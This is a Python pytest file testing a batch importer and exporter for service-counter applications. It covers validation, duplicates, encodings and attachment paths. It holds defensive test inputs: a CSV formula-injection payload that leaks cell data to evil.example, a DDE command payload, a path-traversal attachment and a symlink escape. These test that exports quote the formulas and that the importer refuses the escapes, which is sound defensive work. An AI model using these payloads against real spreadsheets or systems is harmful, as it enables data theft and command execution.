"""Batch import: rows checked as the counter checks them, idempotent by ref, nothing lost."""

from __future__ import annotations

import json
import os
import re

import pytest
from sqlmodel import Session, func, select

from counterdesk.domain.clock import today
from counterdesk.domain.errors import InvalidInput
from counterdesk.services import audit
from counterdesk.services.batch import import_batch
from counterdesk.services.batchrows import flatten
from counterdesk.services.export import application_digest
from counterdesk.store.models import Applicant, Application, Attachment, AuditEntry, GuidanceAnswer, Pickup, StatusEvent
from tests.batch_helpers import batch_folder, example_row, read_jsonl, shop_row, write_jsonl
from tests.factories import resident_id


def run(session, actor, catalog, settings, path, **options):
    return import_batch(session, actor=actor, catalog=catalog, settings=settings, path=path, **options)


def count(session, model) -> int:
    return session.exec(select(func.count()).select_from(model)).one()


def mixed_rows(folder):
    """Good rows and every kind of bad row, with the code each bad row must be rejected with."""
    (folder.parent / "outside.pdf").write_bytes((folder / "scans" / "M01.pdf").read_bytes())
    (folder / "scans" / "note.pdf").write_text("这不是扫描件", encoding="utf-8")
    first = example_row("r-01")
    no_flexible = example_row("r-06")
    del no_flexible["answers"]["flexible"]
    missing_m06 = example_row("r-12")
    del missing_m06["attachments"]["M06"]
    no_ref = example_row("")
    del no_ref["ref"]
    return [
        (first, None),
        (example_row("r-02", agent={"id_type": "resident_id", "id_number": resident_id(), "name": "李四",
                                    "phone": "13912345678"},
                     pickup={"method": "courier", "recipient": "李四", "phone": "13912345678",
                             "address": "湖南省长沙市岳麓区麓山南路2号"}), None),
        ("{这不是 JSON", "invalid_json"),
        (example_row("r-04", matter="ZC-NOPE-999"), "unknown_matter"),
        (shop_row("r-05", matter="ZC-RCAJ-001"), "county_not_handled"),
        (no_flexible, "unanswered"),
        (example_row("r-07", answers={"category": "maybe", "flexible": "yes", "bank": "yes"}), "unknown_option"),
        (example_row("r-08", answers={"category": "laid_off", "flexible": "no", "bank": "yes"}),
         "answer_not_applicable"),
        (example_row("r-09", applicant={"kind": "personal", "id_number": "430626198506150011", "name": "张三",
                                        "mobile": "13812347777"}), "invalid_id_number"),
        (example_row("r-10", applicant={"kind": "personal", "id_number": resident_id(), "name": "张三",
                                        "mobile": "1234"}), "invalid_mobile"),
        (example_row("r-11", remark="字" * 251), "invalid_remark"),
        (missing_m06, "material_missing"),
        (example_row("r-13", attachments={**first["attachments"], "M07": ["scans/M07.pdf"]}),
         "material_not_applicable"),
        (example_row("r-14", attachments={**first["attachments"], "M01": ["../outside.pdf"]}), "file_outside"),
        (example_row("r-15", attachments={**first["attachments"], "M01": ["scans/note.pdf"]}), "file_type"),
        (example_row("r-16", attachments={**first["attachments"], "M01": ["scans/gone.pdf"]}), "file_missing"),
        (example_row("r-17", pickup={"method": "courier", "recipient": "李四", "phone": "13912345678"}),
         "pickup_address"),
        ({**example_row("r-18"), "remarks": "多余的键"}, "unknown_field"),
        (first, "duplicate"),
        (example_row("r-02", remark="内容不同"), "conflict"),
        (no_ref, "ref_missing"),
        ("   ", "blank"),
        (shop_row("r-23"), None),
    ]


def test_mixed_file_imports_the_good_rows_and_rejects_each_bad_one_with_its_line(
        session, clerk, catalog, settings, tmp_path):
    folder = batch_folder(tmp_path)
    cases = mixed_rows(folder)
    path = write_jsonl(folder / "rows.jsonl", [row for row, _ in cases])
    result = run(session, clerk, catalog, settings, path)

    assert (result.total, result.imported, result.duplicates, result.rejected) == (22, 3, 1, 18)
    expected = [(line, code) for line, (_, code) in enumerate(cases, start=1) if code not in (None, "duplicate", "blank")]
    assert [(r.line, r.code) for r in result.rejections] == expected
    day = f"{today():%Y%m%d}"
    assert [n[:30] for n in result.numbers] == [f"430626-{day}-43062601-0000{i}" for i in (1, 2, 3)]
    rejects = read_jsonl(result.rejects_path)
    assert [(r["_line"], r["_code"]) for r in rejects] == expected
    assert all(r["_reason"] for r in rejects)
    assert rejects[0]["_raw"] == "{这不是 JSON" and rejects[-2]["remark"] == "内容不同"
    assert os.stat(result.rejects_path).st_mode & 0o077 == 0

    assert count(session, Application) == 3 and count(session, StatusEvent) == 3
    assert count(session, Attachment) == 6 + 6 + 4
    assert sorted(session.exec(select(Application.ref))) == ["r-01", "r-02", "r-23"]
    courier = session.exec(select(Application).where(Application.ref == "r-02")).one()
    assert (courier.status, courier.agent_name, courier.clerk_id, courier.window) == ("received", "李四", "c03", 3)
    assert session.get(Pickup, courier.id).method == "courier"
    assert {e.by_staff for e in session.exec(select(StatusEvent))} == {"c03"}
    assert all(brk is None for _, brk in audit.verify_all(session).values())
    assert session.exec(select(AuditEntry.action).order_by(AuditEntry.id.desc())).first() == "batch_import"


def test_importing_the_same_file_again_gives_only_duplicates(session, clerk, catalog, settings, tmp_path):
    folder = batch_folder(tmp_path)
    path = write_jsonl(folder / "rows.jsonl", [example_row(f"r-{i}") for i in range(5)] + [shop_row("s-1")])
    first = run(session, clerk, catalog, settings, path, chunk_rows=2)
    again = run(session, clerk, catalog, settings, path, chunk_rows=2)
    assert (first.imported, first.rejected) == (6, 0)
    assert (again.total, again.imported, again.duplicates, again.rejected, again.numbers) == (6, 0, 6, 0, [])
    assert count(session, Application) == 6 and count(session, GuidanceAnswer) == 5 * 3 + 3


def test_same_ref_with_different_content_is_a_conflict_and_never_overwrites(
        session, clerk, catalog, settings, tmp_path):
    folder = batch_folder(tmp_path)
    original = example_row("r-1", remark="第一次")
    run(session, clerk, catalog, settings, write_jsonl(folder / "a.jsonl", [original]))
    changed = write_jsonl(folder / "b.jsonl", [{**original, "remark": "第二次"}])
    result = run(session, clerk, catalog, settings, changed)
    assert [(r.code, r.ref) for r in result.rejections] == [("conflict", "r-1")]
    assert session.exec(select(Application.remark)).all() == ["第一次"]


def test_checked_values_decide_sameness_so_a_lowercase_x_is_still_a_duplicate(
        session, clerk, catalog, settings, tmp_path):
    folder = batch_folder(tmp_path)
    number = next(n for n in (resident_id() for _ in range(50)) if n.endswith("X"))
    row = example_row("r-x", applicant={**example_row("r")["applicant"], "id_number": number})
    run(session, clerk, catalog, settings, write_jsonl(folder / "a.jsonl", [row]))
    typed = example_row("r-x", applicant={**row["applicant"], "id_number": number.lower()})
    result = run(session, clerk, catalog, settings, write_jsonl(folder / "b.jsonl", [typed]))
    assert (result.duplicates, result.rejected) == (1, 0)


def test_csv_twin_of_a_jsonl_file_gives_duplicates(session, clerk, catalog, settings, tmp_path):
    import csv

    folder = batch_folder(tmp_path)
    rows = [example_row("r-1", agent={"id_type": "resident_id", "id_number": resident_id(), "name": "李四",
                                      "phone": "13912345678"}), shop_row("s-1", remark="第一行\n第二行")]
    run(session, clerk, catalog, settings, write_jsonl(folder / "rows.jsonl", rows))
    flat = [flatten(r) for r in rows]
    columns = sorted({key for row in flat for key in row})
    with open(folder / "rows.csv", "w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=columns)
        writer.writeheader()
        writer.writerows(flat)
    result = run(session, clerk, catalog, settings, folder / "rows.csv")
    assert (result.total, result.duplicates, result.rejected) == (2, 2, 0)


def test_fixed_rows_of_the_rejects_file_import_on_the_next_run(session, clerk, catalog, settings, tmp_path):
    folder = batch_folder(tmp_path)
    path = write_jsonl(folder / "rows.jsonl", [example_row("r-1"), example_row("r-2", remark="字" * 300)])
    first = run(session, clerk, catalog, settings, path)
    assert first.rejects_path == folder / "rows.rejects.jsonl"
    rejects = read_jsonl(first.rejects_path)
    rejects[0]["remark"] = "已删减"
    write_jsonl(first.rejects_path, rejects)
    second = run(session, clerk, catalog, settings, first.rejects_path)
    assert (second.imported, second.rejected, second.rejects_path) == (1, 0, None)


def test_dry_run_checks_every_row_and_stores_nothing(session, clerk, catalog, settings, tmp_path):
    folder = batch_folder(tmp_path)
    path = write_jsonl(folder / "rows.jsonl", [example_row("r-1"), example_row("r-2", county="999999")])
    result = run(session, clerk, catalog, settings, path, dry_run=True)
    assert (result.imported, result.rejected, result.numbers, result.dry_run) == (1, 1, [], True)
    assert count(session, Application) == 0 and count(session, Applicant) == 0
    assert not settings.store_dir.exists()


def test_attachment_link_pointing_outside_the_batch_folder_is_refused(session, clerk, catalog, settings, tmp_path):
    folder = batch_folder(tmp_path)
    secret = tmp_path / "secret.pdf"
    secret.write_bytes((folder / "scans" / "M01.pdf").read_bytes())
    (folder / "scans" / "link.pdf").symlink_to(secret)
    row = example_row("r-1", attachments={**example_row("r")["attachments"], "M01": ["scans/link.pdf"]})
    absolute = example_row("r-2", attachments={**example_row("r")["attachments"], "M01": [str(secret)]})
    result = run(session, clerk, catalog, settings, write_jsonl(folder / "rows.jsonl", [row, absolute]))
    assert [r.code for r in result.rejections] == ["file_outside", "file_outside"]


def test_utf8_file_with_bom_imports(session, clerk, catalog, settings, tmp_path):
    folder = batch_folder(tmp_path)
    path = folder / "bom.jsonl"
    path.write_bytes(b"\xef\xbb\xbf" + json.dumps(example_row("r-1"), ensure_ascii=False).encode() + b"\r\n")
    assert run(session, clerk, catalog, settings, path).imported == 1


def test_gbk_file_is_refused_as_a_whole_before_anything_is_stored(session, clerk, catalog, settings, tmp_path):
    folder = batch_folder(tmp_path)
    path = folder / "gbk.jsonl"
    path.write_bytes(json.dumps(example_row("r-1"), ensure_ascii=False).encode("gbk") + b"\n")
    with pytest.raises(InvalidInput) as refused:
        run(session, clerk, catalog, settings, path)
    assert refused.value.code == "batch_encoding_gbk" and "GBK" in refused.value.message
    assert count(session, Application) == 0


def test_hostile_text_is_refused_clearly_or_stored_exactly_as_typed(session, clerk, catalog, settings, tmp_path):
    folder = batch_folder(tmp_path)
    base = example_row("r")["applicant"]
    markup = "[bold red]加急[/bold red] <b>请核对</b>"
    rows = [
        example_row("nul", applicant={**base, "name": "张\u0000三"}),
        example_row("rtl", applicant={**base, "name": "张\u202e三"}),
        example_row("esc", remark="\x1b[31m红字\x1b[0m"),
        example_row("markup", remark=markup),
        "\x00\x01 not json",
        json.dumps(example_row("long", remark="字" * 400_000), ensure_ascii=False),
    ]
    result = run(session, clerk, catalog, settings, write_jsonl(folder / "rows.jsonl", rows))
    assert [(r.line, r.code) for r in result.rejections] == [
        (1, "invalid_name"), (2, "invalid_name"), (3, "invalid_remark"), (5, "invalid_json"), (6, "line_too_long")]
    assert session.exec(select(Application.remark)).all() == [markup]


def test_export_then_import_into_an_empty_database_reproduces_the_applications(
        session, clerk, supervisor, catalog, settings, tmp_path):
    from counterdesk.config import Settings, sqlite_url
    from counterdesk.services.export import export
    from counterdesk.services.staff import add_staff
    from counterdesk.store.engine import open_database
    from tests.conftest import PASSWORD
    from tests.factories import submitted_application

    counter_made = submitted_application(session, clerk, catalog, settings, courier=True)
    folder = batch_folder(tmp_path)
    rows = [example_row("r-1", remark="备注\n第二行"), shop_row("s-1", ticket_no="A017")]
    run(session, clerk, catalog, settings, write_jsonl(folder / "rows.jsonl", rows))
    originals = {(a.ref or a.number): application_digest(session, a) for a in session.exec(select(Application))}

    out = tmp_path / "out" / "day.jsonl"
    assert export(session, actor=supervisor, settings=settings, out=out) == 3
    assert os.stat(out).st_mode & 0o077 == 0
    assert read_jsonl(out)[0]["ref"] == counter_made.number

    fresh = Settings(home=tmp_path / "fresh", db_url=sqlite_url(tmp_path / "fresh" / "db.sqlite"),
                     scans_dir=tmp_path / "fresh" / "scans")
    engine = open_database(fresh.db_url)
    with Session(engine) as other:
        add_staff(other, actor=None, staff_id="sup01", name="王科长", role="supervisor", password=PASSWORD, window=1)
        result = run(other, supervisor, catalog, fresh, out)
        assert (result.imported, result.rejected) == (3, 0)
        copies = {a.ref: application_digest(other, a) for a in other.exec(select(Application))}
    engine.dispose()
    assert copies == originals
    again = run(session, clerk, catalog, settings, out)
    assert (again.duplicates, again.rejected) == (3, 0)


def test_export_csv_of_one_day_imports_back_as_duplicates(session, clerk, supervisor, catalog, settings, tmp_path):
    from counterdesk.services.export import export

    folder = batch_folder(tmp_path)
    run(session, clerk, catalog, settings, write_jsonl(folder / "rows.jsonl", [example_row("r-1"), shop_row("s-1")]))
    out = tmp_path / "out" / "day.csv"
    assert export(session, actor=supervisor, settings=settings, out=out, fmt="csv", day=today()) == 2
    assert out.read_text(encoding="utf-8").startswith("ref,matter,county,")
    result = run(session, clerk, catalog, settings, out)
    assert (result.total, result.duplicates) == (2, 2)


def test_clerk_may_not_export_the_halls_applications(session, clerk, settings, tmp_path):
    from counterdesk.domain.errors import Forbidden
    from counterdesk.services.export import export

    with pytest.raises(Forbidden):
        export(session, actor=clerk, settings=settings, out=tmp_path / "x.jsonl")


def test_filled_template_row_imports(session, clerk, catalog, settings, tmp_path):
    from counterdesk.services.export import template_row

    folder = batch_folder(tmp_path)
    row = template_row(catalog.matter("ZC-JYKN-001"), "430626")
    assert row["answers"] == {"category": "laid_off|zero_employment|disabled", "flexible": "yes|no", "bank": ""}
    assert row["_questions"]["bank"]["when"] == "flexible=yes"
    assert row["attachments"]["M07"] == [] and row["_materials"]["M07"]["when"] == "category=disabled"
    row.update(ref="t-1", answers={"category": "disabled", "flexible": "no", "bank": ""},
               pickup={"method": "onsite"}, applicant=example_row("r")["applicant"],
               attachments={**row["attachments"], "M07": ["scans/M07.pdf"]})
    assert run(session, clerk, catalog, settings, write_jsonl(folder / "t.jsonl", [row])).imported == 1
    assert re.fullmatch(r"430626-\d{8}-43062601-00001-[0-9X]", session.exec(select(Application.number)).one())


def _licence_for(session, supervisor, settings, folder, holder, **overrides):
    from counterdesk.services.licenses import import_licenses

    row = {"holder": holder, "type": "resident_id", "number": holder, "title": "居民身份证", "issuer": "平江县公安局",
           "issued_on": "2019-05-20", "valid_until": "2039-05-20", "file": "scans/M03.pdf", **overrides}
    path = write_jsonl(folder / f"licences-{holder}.jsonl", [row])
    assert import_licenses(session, actor=supervisor, settings=settings, path=path).imported == 1


def test_a_row_may_name_the_applicants_e_license_for_a_material_that_accepts_it(
        session, supervisor, clerk, catalog, settings, tmp_path):
    from counterdesk.store.models import ELicense

    folder = batch_folder(tmp_path)
    row = example_row("lic-01")
    holder = row["applicant"]["id_number"]
    _licence_for(session, supervisor, settings, folder, holder)
    row["attachments"]["M03"] = ["license:resident_id"]
    path = write_jsonl(folder / "rows.jsonl", [row])
    result = run(session, clerk, catalog, settings, path)
    assert (result.imported, result.rejected) == (1, 0), result.rejections
    licence = session.exec(select(ELicense)).one()
    stored = session.exec(select(Attachment).where(Attachment.material_code == "M03")).one()
    assert (stored.source, stored.license_id, stored.sha256) == ("license", licence.id, licence.sha256)
    assert stored.original_name == "居民身份证.pdf"
    again = run(session, clerk, catalog, settings, path)
    assert (again.imported, again.duplicates) == (0, 1)


def test_an_e_license_the_material_does_not_take_or_the_applicant_lacks_is_refused(
        session, supervisor, clerk, catalog, settings, tmp_path):
    folder = batch_folder(tmp_path)
    expired_holder = resident_id()
    _licence_for(session, supervisor, settings, folder, expired_holder, valid_until="2020-01-01")
    wrong_material = example_row("lic-02")
    wrong_material["attachments"]["M01"] = ["license:resident_id"]
    _licence_for(session, supervisor, settings, folder, wrong_material["applicant"]["id_number"])
    wrong_type = example_row("lic-03")
    wrong_type["attachments"]["M03"] = ["license:driving_licence"]
    none_imported = example_row("lic-04")
    none_imported["attachments"]["M03"] = ["license:resident_id"]
    expired = example_row("lic-05", applicant={**none_imported["applicant"], "id_number": expired_holder})
    expired["attachments"]["M03"] = ["license:resident_id"]
    path = write_jsonl(folder / "rows.jsonl", [wrong_material, wrong_type, none_imported, expired])
    result = run(session, clerk, catalog, settings, path)
    assert result.imported == 0
    assert [r.code for r in result.rejections] == ["license_not_accepted", "license_not_accepted",
                                                    "license_missing", "license_missing"]
    assert "只接受电子证照 resident_id" in result.rejections[1].reason
    assert "未过期" in result.rejections[3].reason


def test_export_csv_cells_that_a_spreadsheet_would_run_are_quoted_and_import_back_as_typed(
        session, clerk, supervisor, catalog, settings, tmp_path):
    import csv

    from counterdesk.services.export import export

    folder = batch_folder(tmp_path)
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"详情")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3"]
    rows = [example_row(f"r-{n}", remark=remark) for n, remark in enumerate(formulas)]
    run(session, clerk, catalog, settings, write_jsonl(folder / "rows.jsonl", rows))
    out = tmp_path / "out" / "day.csv"
    assert export(session, actor=supervisor, settings=settings, out=out, fmt="csv", day=today()) == 4
    with open(out, encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert {f"'{remark}" for remark in formulas} <= set(cells)
    result = run(session, clerk, catalog, settings, out)
    assert (result.total, result.duplicates) == (4, 4)


def test_an_attachment_path_that_is_a_folder_rejects_its_row_and_the_rest_import(
        session, clerk, catalog, settings, tmp_path):
    folder = batch_folder(tmp_path)
    (folder / "scans" / "M02-folder.pdf").mkdir()
    bad = example_row("r-2")
    bad["attachments"]["M02"] = ["scans/M02-folder.pdf"]
    rows = [example_row("r-1"), bad, example_row("r-3"), example_row("r-4", attachments={
        **example_row("r").get("attachments"), "M01": ["scans"]})]
    result = run(session, clerk, catalog, settings, write_jsonl(folder / "rows.jsonl", rows))
    assert (result.total, result.imported, result.rejected) == (4, 2, 2)
    assert {item.code for item in result.rejections} == {"file_type"}
